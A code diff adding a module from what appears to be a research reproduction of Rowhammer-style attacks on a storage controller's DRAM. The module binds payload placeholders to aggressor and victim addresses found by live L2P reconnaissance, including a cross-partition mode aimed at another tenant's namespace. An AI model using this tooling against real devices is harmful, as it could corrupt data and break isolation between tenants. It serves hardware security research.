@@ -1,0 +1,202 @@
+"""Stage 2: bind ``@placeholders`` to concrete rows and LBAs.
+
+A program written offline names its operands symbolically — ``@agg_left``,
+``@victim_row`` — because the concrete values depend on the device the
+payload eventually runs on.  The resolver substitutes a bindings table
+into the step tree; :func:`recon_bindings` builds that table from *live*
+L2P reconnaissance (:mod:`repro.attack.recon` /
+:mod:`repro.attack.tenant`), exactly the way the hand-coded plans pick
+their aggressor LBAs.
+
+Standard binding names produced by recon (stack target, namespace-relative
+LBAs):
+
+``agg_left`` / ``agg_right``
+    The aggressor pair of the best triple (rows either side of the
+    victim row).
+``agg<i>_left`` / ``agg<i>_right``
+    Per-triple pairs, ``i`` counting from 0, for many-sided programs.
+``victim``
+    An LBA whose L2P entry lives in the victim row (canary).
+``conflict``
+    A far-away LBA forcing row-buffer conflicts (single-sided dummy),
+    chosen with the same rule as
+    :func:`repro.attack.hammer.single_sided_plan`.
+``loc``
+    The one-location aggressor (defaults to ``agg_left``).
+
+and for the dram target (physical coordinates of the same triple):
+
+``bank``, ``victim_row``, ``left_row``, ``right_row``.
+"""
+
+from __future__ import annotations
+
+from typing import Dict, Mapping, Optional, Tuple
+
+from repro.payload.program import (
+    Act,
+    Loop,
+    PayloadError,
+    Program,
+    Read,
+    Step,
+    is_placeholder,
+)
+
+
+class UnboundPlaceholderError(PayloadError):
+    """A program still references placeholders no binding supplies."""
+
+    def __init__(self, names, bound) -> None:
+        self.names = tuple(sorted(names))
+        hint = (
+            "bind them with --bind name=value, a bindings JSON file, or "
+            "resolve against a live device (payload run does this "
+            "automatically)"
+        )
+        available = (
+            "available bindings: %s" % ", ".join(sorted(bound))
+            if bound
+            else "no bindings were supplied"
+        )
+        super().__init__(
+            "unbound placeholder%s %s — %s; %s"
+            % (
+                "" if len(self.names) == 1 else "s",
+                ", ".join("@" + name for name in self.names),
+                available,
+                hint,
+            )
+        )
+
+
+def _bind(value, bindings: Mapping[str, int]):
+    if is_placeholder(value) and value in bindings:
+        bound = bindings[value]
+        if not isinstance(bound, int) or isinstance(bound, bool) or bound < 0:
+            raise PayloadError(
+                "binding @%s=%r is not a non-negative integer" % (value, bound)
+            )
+        return bound
+    return value
+
+
+def _resolve_steps(steps: Tuple[Step, ...], bindings: Mapping[str, int]):
+    out = []
+    for step in steps:
+        if isinstance(step, Read):
+            out.append(Read(lba=_bind(step.lba, bindings)))
+        elif isinstance(step, Act):
+            out.append(
+                Act(bank=_bind(step.bank, bindings), row=_bind(step.row, bindings))
+            )
+        elif isinstance(step, Loop):
+            out.append(
+                Loop(count=step.count, body=tuple(_resolve_steps(step.body, bindings)))
+            )
+        else:
+            out.append(step)
+    return out
+
+
+def resolve_program(
+    program: Program,
+    bindings: Optional[Mapping[str, int]] = None,
+    require_complete: bool = True,
+) -> Program:
+    """Substitute ``bindings`` into every placeholder operand.
+
+    With ``require_complete`` (the default) any placeholder left unbound
+    raises :class:`UnboundPlaceholderError`; pass ``False`` to apply a
+    partial table (e.g. sweep axes first, recon later).
+    """
+    bindings = dict(bindings or {})
+    resolved = Program(
+        name=program.name,
+        target=program.target,
+        steps=tuple(_resolve_steps(program.steps, bindings)),
+    )
+    if require_complete:
+        leftover = resolved.placeholders()
+        if leftover:
+            raise UnboundPlaceholderError(leftover, bindings)
+    return resolved
+
+
+# ---------------------------------------------------------------------------
+# live recon
+# ---------------------------------------------------------------------------
+
+
+def recon_bindings(
+    controller,
+    nsid: int,
+    victim_nsid: Optional[int] = None,
+    limit: int = 8,
+    know_hash_key: bool = True,
+) -> Dict[str, int]:
+    """Derive the standard binding table from live L2P recon.
+
+    With ``victim_nsid`` the triples straddle the partition boundary
+    (cross-partition attack); without it the self-test finder probes the
+    attacker's own namespace, matching what
+    :func:`repro.attack.recon.find_self_test_triples` feeds the
+    hand-coded plans.  All LBA bindings are namespace-relative to
+    ``nsid`` so a ``stack`` program can read them directly.
+    """
+    from repro.attack.profile import DeviceProfile
+    from repro.attack.recon import (
+        find_cross_partition_triples,
+        find_self_test_triples,
+        require_triples,
+    )
+
+    profile = DeviceProfile.from_device(controller, know_hash_key=know_hash_key)
+    namespace = controller.namespace(nsid)
+    if victim_nsid is not None:
+        triples = find_cross_partition_triples(
+            profile, namespace, controller.namespace(victim_nsid), limit=limit
+        )
+        # Cross-partition triples may be one-sided near the boundary in
+        # odd layouts; keep only pairs usable for double-sided loops.
+        triples = [t for t in triples if t.left_lbas and t.right_lbas]
+    else:
+        triples = [
+            t
+            for t in find_self_test_triples(profile, namespace, limit=limit * 4)
+            if t.left_lbas and t.right_lbas
+        ][:limit]
+    require_triples(triples, "payload recon on nsid %d" % nsid)
+
+    bindings: Dict[str, int] = {}
+    first = triples[0]
+    left, right = first.aggressor_pair
+    bindings["agg_left"] = left - namespace.start_lba
+    bindings["agg_right"] = right - namespace.start_lba
+    if first.victim_lbas and namespace.contains_device_lba(first.victim_lbas[0]):
+        bindings["victim"] = first.victim_lbas[0] - namespace.start_lba
+
+    # The single-sided conflict dummy, chosen exactly like
+    # hammer.single_sided_plan's default.
+    aggressor = first.left_lbas[0] if first.left_lbas else first.right_lbas[0]
+    conflict = (
+        namespace.start_lba
+        if aggressor > namespace.start_lba + namespace.num_lbas // 2
+        else namespace.end_lba - 1
+    )
+    bindings["conflict"] = conflict - namespace.start_lba
+    # One-location programs hammer a single aggressor address.
+    bindings["loc"] = bindings["agg_left"]
+
+    for index, triple in enumerate(triples):
+        pair_left, pair_right = triple.aggressor_pair
+        bindings["agg%d_left" % index] = pair_left - namespace.start_lba
+        bindings["agg%d_right" % index] = pair_right - namespace.start_lba
+
+    # Physical coordinates for dram-target programs.
+    bindings["bank"] = first.bank
+    bindings["victim_row"] = first.victim_row
+    bindings["left_row"] = first.victim_row - 1
+    bindings["right_row"] = first.victim_row + 1
+    return bindings
